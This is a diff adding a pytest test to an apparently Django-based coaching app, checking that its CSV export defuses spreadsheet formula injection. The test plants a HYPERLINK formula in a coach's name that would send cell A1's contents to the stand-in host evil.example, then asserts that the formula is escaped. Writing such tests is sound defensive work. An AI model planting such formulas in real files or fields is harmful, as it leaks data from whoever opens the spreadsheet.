@@ -241,6 +241,21 @@ def test_the_csv_export_has_one_row_per_trajectory_without_personal_data(
     assert "hanne@example.org" not in text
 
 
+def test_the_csv_export_defuses_cells_a_spreadsheet_would_run_as_formulas(
+    coach_client, coaching_trajectory_a, coaching_coach
+):
+    # A coach chooses their own name; a spreadsheet must show it, never run it.
+    coaching_coach.first_name = '=HYPERLINK("https://evil.example/?"&A1;"klik")'
+    coaching_coach.last_name = ""
+    coaching_coach.save()
+    coaching_trajectory_a.coaches.add(coaching_coach)
+
+    response = coach_client.get("/beheer/coaching/trajecten/export.csv")
+
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
+    assert rows[1][5] == "'" + '=HYPERLINK("https://evil.example/?"&A1;"klik")'
+
+
 @pytest.mark.parametrize(
     "url",
     [
